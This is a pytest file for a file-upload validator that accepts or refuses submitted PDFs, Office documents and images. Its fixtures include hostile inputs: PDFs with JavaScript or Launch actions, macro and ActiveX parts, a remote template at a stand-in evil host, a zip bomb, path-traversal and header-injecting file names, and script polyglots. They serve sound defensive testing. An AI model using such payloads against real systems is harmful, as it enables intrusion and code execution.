from __future__ import annotations

import io
import time
from pathlib import Path

import pytest
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from plaudit.entries.intake.examining import KINDS, examined, kinds_in_words, safe_evidence
from plaudit.entries.intake.safe_file import MEGABYTE, check_size, clean_name
from plaudit.kit.confined import Exhausted, confined
from plaudit.kit.verdict import Refused
from tests.factories.files import (
    MAIN,
    a_document,
    a_noted_pdf,
    a_package,
    a_pdf,
    a_pdf_with,
    a_photo,
    a_presentation,
    a_workbook,
    an_action,
    with_part,
)

OLD_OFFICE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
FETCHING = (
    '<Relationships><Relationship Id="r1" Type="http://schemas.example/attachedTemplate" '
    'Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>'
)
LINKING = FETCHING.replace("attachedTemplate", "hyperlink")


def a_bomb() -> io.BytesIO:
    return a_package(f'<Override ContentType="{MAIN}"/>', {"ppt/a.xml": b"0" * (150 * MEGABYTE)})


@pytest.mark.parametrize(
    ("file", "kind", "pages"),
    [
        (a_pdf(3), "pdf", 3),
        (a_document("Fewer falls"), "docx", None),
        (a_workbook([["Month", 3]]), "xlsx", None),
        (a_presentation("One", "Two"), "pptx", 2),
        (a_photo("PNG"), "png", None),
        (a_photo("JPEG"), "jpeg", None),
        (with_part(a_document("x"), "word/_rels/other.xml.rels", LINKING), "docx", None),
        (a_pdf_with(OpenAction=an_action("GoTo")), "pdf", 1),
    ],
)
def test_a_sound_file_is_known_by_its_content(file: io.BytesIO, kind: str, pages: int) -> None:
    found = safe_evidence(file, list(KINDS))
    assert (found.kind, found.page_count) == (kind, pages)
    assert found.content_type


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"PK\x03\x04", "damaged"),
        (b"  %PDF-1.7", "cannot open this kind"),
        (b"%PDF-1.7 and nothing more", "damaged"),
        (a_pdf(password="secret").getvalue(), "password"),
        (a_pdf(0).getvalue(), "no pages"),
        (
            a_pdf_with(Names=DictionaryObject({NameObject("/JavaScript"): DictionaryObject()})).getvalue(),
            "holds a script",
        ),
        (a_pdf_with(OpenAction=an_action("JavaScript")).getvalue(), "holds a script"),
        (a_pdf_with(OpenAction=an_action("GoTo", Next=an_action("Launch"))).getvalue(), "holds"),
        (a_pdf_with(OpenAction=an_action("GoTo", Next=ArrayObject())).getvalue(), "holds"),
        (a_noted_pdf(DictionaryObject({NameObject("/A"): an_action("Launch")})).getvalue(), "holds"),
        (
            a_noted_pdf(
                DictionaryObject({NameObject("/Subtype"): NameObject("/FileAttachment")})
            ).getvalue(),
            "holds",
        ),
        (a_pdf().getvalue() + a_package("").getvalue(), "something else at once"),
        (b"<html><script>alert(1)</script>", "cannot open this kind"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'/>", "cannot open this kind"),
        (b"GIF89a=1;alert(1)", "cannot open this kind"),
        (b"MZ\x90\x00", "cannot open this kind"),
        (b"MIME-Version: 1.0", "cannot open this kind"),
        (a_package("").getvalue(), "not a Word, Excel or PowerPoint"),
        (with_part(io.BytesIO(), "a.txt", "x").getvalue(), "archive of files"),
        (with_part(a_document("x"), "word/vbaProject.bin", b"x").getvalue(), "macros"),
        (a_package("application/vnd.ms-word.document.macroEnabled.main+xml").getvalue(), "macros"),
        (with_part(a_document("x"), "word/activeX/activeX1.xml", b"x").getvalue(), "macros"),
        (with_part(a_document("x"), "word/_rels/s.xml.rels", FETCHING).getvalue(), "web address"),
        (with_part(a_document("x"), "../../etc/cron.d/x", "x").getvalue(), "damaged"),
        (OLD_OFFICE + b"\0" * 100, "before 2007"),
        (OLD_OFFICE + "EncryptedPackage".encode("utf-16-le"), "password"),
        (a_document("x").getvalue()[:-40], "damaged"),
        (b"\x89PNG\r\n\x1a\nbroken", "damaged"),
    ],
)  # fmt: skip
def test_what_is_not_sound_is_refused_with_the_reason(content: bytes, reason: str) -> None:
    with pytest.raises(Refused, match=reason):
        safe_evidence(io.BytesIO(content), list(KINDS))


def test_a_bomb_is_refused_in_no_time() -> None:
    bomb, started = a_bomb(), time.process_time()
    with pytest.raises(Refused, match="unpacks to more"):
        safe_evidence(bomb, list(KINDS))
    assert time.process_time() - started < 1


def test_a_kind_that_the_edition_does_not_take_is_named() -> None:
    with pytest.raises(Refused, match=r"Excel \(.xlsx\) files are not taken here. Send PDF."):
        safe_evidence(a_workbook(), ["pdf"])
    with pytest.raises(Refused, match=r"JPEG picture files are not taken here\. Send PDF or Word"):
        safe_evidence(a_photo(), ["docx", "pdf"])
    assert kinds_in_words(["png", "pdf", "docx"]) == "PDF, Word (.docx) or PNG picture"


@pytest.mark.parametrize(
    ("size", "reason"),
    [(0, "The file is empty."), (26 * MEGABYTE, "The file is 26 MB. It can be 25 MB at most.")],
)
def test_sizes_are_refused_with_both_numbers(size: int, reason: str) -> None:
    with pytest.raises(Refused, match=reason):
        check_size(size, 25 * MEGABYTE, "file")


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("", "file"),
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\me\\outcomes.pdf", "outcomes.pdf"),
        ("a\r\nSet-Cookie: x.pdf", "aSet-Cookie: x.pdf"),
        ("x" * 300 + ".pdf", "x" * 196 + ".pdf"),
        ("Ünïcode 😀.pdf", "Ünïcode 😀.pdf"),
        ("a\ud800b.pdf", "ab.pdf"),
        ("gpj.\u202eexe.pdf", "gpj.exe.pdf"),
    ],
)
def test_a_name_is_only_a_name(given: str, kept: str) -> None:
    assert clean_name(given, "file") == kept


def test_a_child_examines_a_file_and_leaves_the_picture_drawn_anew(tmp_path: Path) -> None:
    sent, drawn = tmp_path / "sent", tmp_path / "drawn"
    sent.write_bytes(a_photo("PNG").getvalue())
    answer = confined(
        "plaudit.entries.intake.examining:examined", str(sent), str(drawn), "photo", []
    )
    assert answer == {
        "kind": "jpeg",
        "content_type": "image/jpeg",
        "extension": "jpg",
        "page_count": None,
        "is_drawn": True,
    }
    assert drawn.read_bytes().startswith(b"\xff\xd8")
    sent.write_bytes(b"nothing")
    refused = examined(str(sent), str(drawn), "evidence", ["pdf"])
    assert refused == {"refused": "Judges cannot open this kind of file. Send PDF."}


def test_a_child_that_takes_too_much_is_ended() -> None:
    with pytest.raises(Exhausted):
        confined("builtins:bytearray", 2_000_000_000, megabytes=300)


def test_a_pdf_page_may_name_a_place_elsewhere() -> None:
    link = DictionaryObject(
        {
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/A"): an_action("URI", URI=TextStringObject("https://example.org")),
        }
    )
    assert safe_evidence(a_noted_pdf(link), ["pdf"]).page_count == 1
